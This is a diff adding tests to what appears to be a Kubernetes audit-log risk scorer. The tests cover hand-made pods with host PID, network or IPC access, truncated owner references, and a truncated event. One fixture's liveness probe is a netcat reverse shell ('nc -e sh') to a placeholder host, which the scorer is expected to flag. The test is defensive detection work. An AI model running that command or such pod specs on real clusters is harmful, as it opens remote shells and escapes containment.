@@ -64,6 +64,13 @@ describe('a risk', () => {
       assert.deepEqual([risk.score, risk.severity], [score, severity]);
     });
 
+  for (const way of [{ hostPID: true }, { hostNetwork: true }, { hostIPC: true }, NODE_ROOT])
+    it(`of a bare system that somebody made by hand with ${Object.keys(way).join()} is at least HIGH, and of the same by a controller it is not`, () => {
+      const spec = { ...way, containers: [{ name: 'c', image: 'ubuntu', command: ['sleep', '1d'] }] };
+      assert.ok(['HIGH', 'CRITICAL'].includes(riskOf(podCreated({ spec })).severity));
+      assert.ok(['LOW', 'MEDIUM'].includes(riskOf(podCreated({ ...owned, spec })).severity));
+    });
+
   it('of a creation by nobody is CRITICAL, whatever else', () => {
     for (const created of [podCreated, namespaceCreated])
       assert.equal(riskOf(created({ event: { user: { username: 'system:anonymous', groups: ['system:unauthenticated'] } } })).severity, 'CRITICAL');
@@ -157,6 +164,24 @@ describe('what was not seen', () => {
         [],
       );
     });
+
+  it('is only what was not found', () => {
+    const { notAssessed } = riskOf(atLevelRequest(attack));
+    for (const { signals } of notAssessed) for (const id of signals) assert.ok(!idsOf(atLevelRequest(attack)).includes(id), id);
+  });
+
+  it('is the owners that were cut: nobody is said to have made it by hand then', () => {
+    const annotations = { 'audit.k8s.io/truncated': 'true', 'arrivals/cut': 'ownerReferences' };
+    const risk = riskOf(podCreated({ spec: { hostPID: true }, event: { annotations } }));
+    assert.deepEqual([risk.signals.map(({ id }) => id), unassessed(risk)], [['host-pid'], ['host-access-by-hand', 'controller-style-name']]);
+  });
+
+  it('is a probe that was cut with what nobody shows', () => {
+    const envFrom = Array.from({ length: 200 }, (_unused, i) => ({ configMapRef: { name: `settings-${String(i)}` } }));
+    const bytes = bytesOf(podWith({ envFrom, livenessProbe: { exec: { command: ['nc', '-e', 'sh', 'h', '1'] } } }));
+    const risk = riskOf(JSON.parse(cutEvent(bytes, 4000).toString()));
+    assert.deepEqual([risk.signals, unassessed(risk).includes('reverse-shell')], [[], true]);
+  });
 
   it('of a request is still what the client sent', () => {
     for (const event of [atLevelRequest(attack), answeredAsTable(attack), answeredPartially(attack)])
